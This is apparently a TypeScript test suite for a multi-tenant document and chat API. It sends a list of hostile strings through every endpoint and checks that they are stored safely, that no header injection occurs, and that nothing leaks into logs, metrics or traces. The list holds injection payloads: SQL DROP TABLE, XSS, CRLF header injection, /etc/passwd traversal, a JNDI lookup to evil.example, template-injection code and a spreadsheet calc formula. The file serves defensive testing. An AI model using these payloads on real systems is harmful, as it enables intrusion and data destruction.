import { InMemorySpanExporter } from '@wardstone/telemetry';
import { eventually } from '@wardstone/testing';
import { expect } from 'chai';
import { postJson } from './support/http.ts';
import { enableCompletions } from './support/in-test-kept.ts';
import { addDocument } from './support/in-test-services.ts';
import { type World, startWorld, tenantA } from './support/world.ts';

/** Strings that break programs, each with a marker that must not be seen again. */
const marker = 'Zq7XmarkerPHI';
const hostile = [
  `${marker}' OR '1'='1'; DROP TABLE documents; --`,
  `<script>alert("${marker}")</script>`,
  `${marker}\r\nX-Injected: yes`,
  `../../../../etc/passwd%00${marker}`,
  `\${jndi:ldap://evil.example/${marker}}`,
  `{{constructor.constructor('return process')()}}${marker}`,
  `${marker}\u202e\u0007\u001b[2J`,
  `${marker}\ufeff\u200b\u0000`,
  `ﷺ${'Z\u0351\u036b'.repeat(50)}${marker}`,
  `%s%s%n%x${marker}`,
  `${marker}`.repeat(300),
  `=cmd|' /C calc'!A0${marker}`,
  `{"$gt":""}${marker}`,
  `İstanbul ß ﬁ 𝕏 👩‍⚕️ ${marker}`,
];

const user = (content: string) => ({ role: 'user', content });

describe('hostile strings', () => {
  let world: World;
  const spans = new InMemorySpanExporter();
  before(async () => {
    world = await startWorld({ spanExporter: spans });
    enableCompletions(world.state.kept, tenantA);
  });
  after(() => world.close());

  it('go through as they are or are refused, in every text field, and never break an answer', async () => {
    const headers = await world.bearer({ roles: ['tenant_admin'] });
    const platform = { authorization: `Bearer ${await world.issuer.token({ roles: ['platform_admin'] })}` };
    for (const text of hostile) {
      const encoded = encodeURIComponent(text);
      const file = new FormData();
      file.append('title', text);
      file.append('labels', text);
      file.append('metadata', text);
      file.append('file', new File(['x'], 'a.txt'));
      const answers = await Promise.all([
        postJson(`${world.url}/v1/search`, headers, { query: text }),
        postJson(`${world.url}/v1/answers`, headers, { question: text }),
        postJson(`${world.url}/v1/chat/completions`, headers, {
          ...{ model: 'fast', messages: [user(text), { role: 'assistant', content: text }, user('How much?')] },
        }),
        postJson(`${world.url}/v1/chat/completions`, headers, { model: text, messages: [user(text)], user: text }),
        fetch(`${world.url}/v1/models/${encoded}`, { headers }),
        postJson(`${world.url}/v1/tenants`, platform, { displayName: text }),
        postJson(`${world.url}/v1/documents`, headers, { fileName: text, title: text, contentBase64: 'SGk=' }),
        postJson(`${world.url}/v1/search`, headers, { [text]: text }),
        fetch(`${world.url}/v1/documents`, { method: 'POST', headers, body: file }),
        fetch(`${world.url}/v1/documents/${encoded}`, { headers }),
        fetch(`${world.url}/v1/documents?pageToken=${encoded}`, { headers }),
        fetch(`${world.url}/v1/documents?state=${encoded}&${encoded}=1`, { headers }),
        fetch(`${world.url}/v1/audit-events?actorSubject=${encoded}&resourceId=${encoded}&action=${encoded}`, {
          headers,
        }),
        postJson(`${world.url}/v1/tenants/${encoded}/suspension`, platform, {}),
        fetch(`${world.url}/v1/tenants/${encoded}/suspension`, { method: 'DELETE', headers: platform }),
        postJson(`${world.url}/v1/tenants/${encoded}/key-rotations`, headers, {}),
        postJson(`${world.url}/v1/tenants/${tenantA}/key-rotations`, headers, { [text]: text }),
        fetch(`${world.url}/v1/tenants/${tenantA}/key-rotations/${encoded}`, { headers }),
        fetch(`${world.url}/v1/tenants/${encoded}/key-rotations/latest`, { headers }),
        postJson(`${world.url}/v1/tenants/${encoded}/offboarding`, headers, {}),
        fetch(`${world.url}/v1/tenants/${encoded}/offboarding`, { headers }),
        postJson(`${world.url}/v1/tenants/${tenantA}/offboarding/approval`, headers, { offboardingId: text }),
        postJson(`${world.url}/v1/tenants/${tenantA}/offboarding/cancellation`, headers, { [text]: text }),
        fetch(`${world.url}/${encoded}`, { headers }),
      ]);
      // One after the other: few uploads as JSON are held at once.
      for (const named of [{ labels: [text], metadata: { note: text } }, { metadata: { [text]: 'x' } }]) {
        const body = { fileName: 'a.txt', contentBase64: 'SGk=', ...named };
        answers.push(await postJson(`${world.url}/v1/documents`, headers, body));
      }
      for (const answer of answers) {
        expect([200, 201, 202, 400, 404], `${answer.url}: ${await answer.clone().text()}`).to.include(answer.status);
        expect(answer.headers.get('x-injected')).to.equal(null);
        expect(answer.headers.get('content-type')).to.match(/^application\/(problem\+)?json/);
        expect(JSON.parse(await answer.text())).to.be.an('object');
      }
    }
    const labels = world.state.uploads.flatMap(({ metadata }) => metadata.labels);
    expect(labels).to.include(hostile[0]).and.include(hostile[13]);
    expect(labels.some((label) => /\p{Cc}/u.test(label))).to.equal(false);
    const questions = world.state.searches.map(({ query }) => query);
    const told = world.state.questions.flatMap(({ history }) =>
      history.flatMap(({ question, answer }) => [question, answer]),
    );
    expect(told).to.include(hostile[0]).and.include(hostile[13]);
    expect(told.some((said) => said.includes('\0'))).to.equal(false);
    expect(questions).to.include(hostile[0]).and.include(hostile[13]);
    expect(questions.some((question) => question.includes('\0'))).to.equal(false);
  });

  it('come back from a download as a file name on one header line', async () => {
    const headers = await world.bearer();
    for (const text of hostile) {
      const { documentId } = addDocument(
        world.state,
        tenantA,
        { fileName: text.toWellFormed(), mediaType: `text/html\r\nX-Injected: 1` },
        'bytes',
      );
      const response = await fetch(`${world.url}/v1/documents/${documentId}/content`, { headers });
      expect(response.status).to.equal(200);
      expect(response.headers.get('content-disposition')).to.match(
        /^attachment; filename="[^"\r\n\\/]*"; filename\*=UTF-8''[\w.!~%#$&+^`|-]*$/,
      );
      expect(response.headers.get('content-type')).to.equal('application/octet-stream');
      expect(response.headers.get('x-injected')).to.equal(null);
      expect(await response.text()).to.equal('bytes');
    }
  });

  it('are in no log line, no metric and no span; nor is any token', async () => {
    const { authorization } = await world.bearer();
    const { body } = await postJson(
      `${world.url}/v1/answers`,
      { authorization, accept: 'text/event-stream' },
      { question: marker },
    );
    await body?.cancel();
    await eventually(() => world.logLines.some((line) => line.includes('/v1/answers')));
    const metrics = await world.metrics();
    const traced = JSON.stringify(
      spans.getFinishedSpans().map(({ name, attributes, events, status }) => [name, attributes, events, status]),
    );
    expect(spans.getFinishedSpans().map(({ name }) => name)).to.include('POST /v1/search');
    for (const kept of [world.logLines.join(''), metrics, traced]) {
      expect(kept).not.to.contain(marker);
      expect(kept).not.to.contain('Aspirin');
      expect(kept).not.to.contain(authorization.slice(20, 60));
      expect(kept).not.to.match(/Bearer|DROP TABLE|passwd/);
    }
  });

  it('leave lines that say who asked for what kind of thing, and how it ended', async () => {
    world.logLines.length = 0;
    const traceId = '4bf92f3577b34da6a3ce929d0e0e4736';
    const headers = {
      ...(await world.bearer()),
      'x-request-id': 'req-1',
      traceparent: `00-${traceId}-00f067aa0ba902b7-01`,
    };
    await fetch(`${world.url}/v1/documents/01970000-0000-7000-8000-000000000001`, { headers });
    const line = await eventually(() => world.logLines.find((text) => text.includes('"requestId":"req-1"')));
    expect(JSON.parse(line)).to.deep.include({
      method: 'GET',
      route: '/v1/documents/{documentId}',
      status: 404,
      reason: 'DOCUMENT_NOT_FOUND',
      tenantId: tenantA,
      subject: 'user-1',
      requestId: 'req-1',
      traceId,
    });
    const span = await eventually(() =>
      spans
        .getFinishedSpans()
        .find(
          ({ attributes }) =>
            attributes['http.response.status_code'] === 404 &&
            attributes['http.route'] === '/v1/documents/{documentId}',
        ),
    );
    expect(
      spans.getFinishedSpans().some((one) => one.spanContext().traceId === traceId && one.name.endsWith('GetDocument')),
    ).to.equal(true);
    expect(span.name).to.equal('GET /v1/documents/{documentId}');
  });
});
